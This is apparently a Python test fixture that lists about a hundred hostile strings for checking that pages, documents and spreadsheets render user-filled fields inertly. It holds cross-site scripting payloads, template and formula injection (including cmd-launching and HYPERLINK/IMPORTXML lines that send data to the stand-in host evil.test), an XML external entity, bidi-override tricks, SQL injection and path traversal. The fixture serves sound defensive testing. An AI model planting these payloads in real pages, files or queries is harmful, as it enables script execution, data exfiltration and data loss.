"""A hundred texts that try to be more than text, for every field that somebody else fills in.

One list for pages, drawings, Word files, PDF and spreadsheets. What would run sets ``window.RAN`` or opens a dialog; what would load
asks ``evil.test``, a host that cannot exist. Shown rightly, each is read as it stands (see ``seen``) and does nothing. NUL is not among
them: the ledger refuses it.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

MARKUP = (
    "<script>window.RAN=1</script>",
    "<SCRIPT SRC=https://evil.test/x.js></SCRIPT>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(2)</script>",
    "</style><script>alert(3)</script>",
    "</textarea></template></noscript><script>alert(4)</script>",
    "<scr<script>ipt>window.RAN=1</scr</script>ipt>",
    "<img src=x onerror=window.RAN=1>",
    "<img src='https://evil.test/pixel.png' alt='a pixel'>",
    '<IMG SRC="jav\tascript:alert(5);">',
    "<img srcset='https://evil.test/1.png 1x, https://evil.test/2.png 2x'>",
    "<svg onload=alert(6)>",
    "<svg><script href='https://evil.test/x.js'/></svg>",
    "<svg><animate onbegin=window.RAN=1 attributeName=x dur=1s>",
    "<svg><use href='https://evil.test/s.svg#a'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>top.RAN=1</script>'></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.RAN=1>",
    "<math><maction actiontype='statusline#https://evil.test' xlink:href='javascript:window.RAN=1'>click</maction></math>",
    "<iframe src='https://evil.test/frame'></iframe>",
    "<iframe srcdoc='<script>parent.RAN=1</script>'></iframe>",
    "<object data='https://evil.test/o.swf'></object>",
    "<embed src='data:text/html,<script>top.RAN=1</script>'>",
    "<base href='https://evil.test/'>",
    "<meta http-equiv='refresh' content='0;url=https://evil.test/gone'>",
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "<link rel='stylesheet' href='https://evil.test/s.css'>",
    "<link rel=preload as=script href='https://evil.test/p.js'>",
    "<style>@import 'https://evil.test/i.css';</style>",
    "<style>body{display:none}</style>",
    "<div style='position:fixed;inset:0;background:red;z-index:9999'>covers the page</div>",
    "<div style=\"background:url('https://evil.test/b.png')\">b</div>",
    "<body onload=alert(7)>",
    "<details open ontoggle=window.RAN=1>fold</details>",
    "<input autofocus onfocus=window.RAN=1>",
    "<form action='https://evil.test/f'><button>Confirm</button></form>",
    "<button formaction='javascript:alert(8)'>Saved</button>",
    "<video src='https://evil.test/v.mp4' autoplay onplay=alert(9)></video>",
    "<audio src=x onerror=alert(10)>",
    "<marquee onstart=window.RAN=1>runs</marquee>",
    "<a href='javascript:window.RAN=1'>a study</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD50b3AuUkFOPTE8L3NjcmlwdD4=">data</a>',
    "<a href='https://evil.test/' ping='https://evil.test/ping'>ping</a>",
    "<template><script>window.RAN=1</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=window.RAN=1>">',
    "<!--[if gte IE 4]><script>alert(11)</script><![endif]-->",
    "<!-- a comment that never ends",
    "--><script>alert(12)</script>",
    "<![CDATA[<script>alert(13)</script>]]>",
    "]]><b>behind a section</b>",
    "<?xml version='1.0'?><!DOCTYPE r [<!ENTITY e SYSTEM 'https://evil.test/e'>]><r>&e;</r>",
    "<w:p><w:r><w:t>another paragraph</w:t></w:r></w:p>",
    "</w:t></w:r></w:p></w:tc></w:tr></w:tbl>",
    "</td></tr></table><h1>Included</h1><table><tr><td>",
    "</p></article></details></main><h2>Outside</h2>",
    "<plaintext>",
    "<p id=panel class=panel>another panel</p>",
    "<a id='trace-record' href='#top'>an origin</a>",
    "<img name=getElementById><form name=body>",
)
ATTRIBUTES = (
    '" onmouseover="window.RAN=1',
    "' onfocus='window.RAN=1' autofocus='",
    '"><img src=x onerror=window.RAN=1>',
    "'><svg/onload=alert(14)>",
    "` onerror=alert(15) `",
    'x" style="display:none',
    "javascript:window.RAN=1",
    "JaVaScRiPt&colon;alert(16)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(17)</script>",
    "https://evil.test/plain-address?a=1&b=2",
    "//evil.test/without-scheme",
    "expression(alert(18))",
    "url(https://evil.test/c.png)",
    "&lt;script&gt;alert(19)&lt;/script&gt;",
    "&#60;script&#62;alert(20)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(21)&#x3e;",
    "&amp;lt; read twice &nbsp &copy",
    "%3Cscript%3Ealert(22)%3C/script%3E",
    "\\u003cscript\\u003ealert(23)\\u003c/script\\u003e",
    '\\"; alert(24); //',
    "{{constructor.constructor('alert(25)')()}}",
    "${window.RAN=1} #{7*7} {%raw%} {0} {n} {reason!r:>999}",
    "%s %(name)s %n %d",
)
MARKDOWN = (
    "[a link](javascript:alert(26))",
    "![a picture](https://evil.test/m.png)",
    "[ref]: https://evil.test/ref 'title'",
    "<https://evil.test/auto>",
    "# A heading *of* **its** `own` | a | b |",
    "```\nnot code\n```",
    "$\\href{javascript:alert(27)}{x}$ \\input{secret}",
)
TYPST = (
    '#eval("panic()")',
    '#image("secret.png") #include "x.typ" #read("x")',
    "#set page(width: 1pt) *strong* _emph_ @ref <label> $x^2$ // gone",
    "#{ while true {} }",
    ']#raw("out")[ \\ ~ -- ---',
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.test/?"&A1,"see")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
    ';=IMPORTXML("https://evil.test","//a")',
)
LETTERS = (
    "\u202egnp.exe\u202c reversed \u2066isolated\u2069",
    "never closed \u202e\u2067 override",
    "مراجعة منهجية <b>للعلاج</b>",
    "系统评价，研究对象≥18岁；“不符合”",
    "m² ≥ 10⁻³ µg/l, ‘β’–“α” → ½ ﬁ",
    "🧪👩‍⚕️🇨🇭 e\u0301\u0300\u0302\u0323\u0327",
    "Z\u0351\u0343\u034a\u030d\u0342\u0351\u0343\u034a\u030dalgo\u0351\u0343\u034a\u030d",
    "zero\u200bwidth\u200djoined\ufeffmarked\u00adsoft",
    "bell\u0007 escape\u001b[31m red\u001b[0m end",
    "next\u0085line separators\u2028of\u2029lines",
    "Nonimmunomodulatory" * 12,
    "https://a.test/" + "averylongpath/" * 16,
    "first line\r\nsecond line\n\n\tthird, indented",
    "'; DROP TABLE events; --",
    "../../../outside\\..\\up",
)
HOSTILE: tuple[str, ...] = (*MARKUP, *ATTRIBUTES, *MARKDOWN, *TYPST, *FORMULAS, *LETTERS)
_UNSHOWN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufffe\uffff]")


def hostile() -> Iterator[str]:
    """The texts over and over, each time with a mark of its own behind it, so that one can be told from the next wherever it is shown."""
    at = 0
    while True:
        yield f"{HOSTILE[at % len(HOSTILE)]} (h{at})"
        at += 1


def seen(text: str) -> str:
    """*text* as a reader finds it on a page: white space folded, and what no document can hold as U+FFFD."""
    return " ".join(_UNSHOWN.sub("\ufffd", text).split())
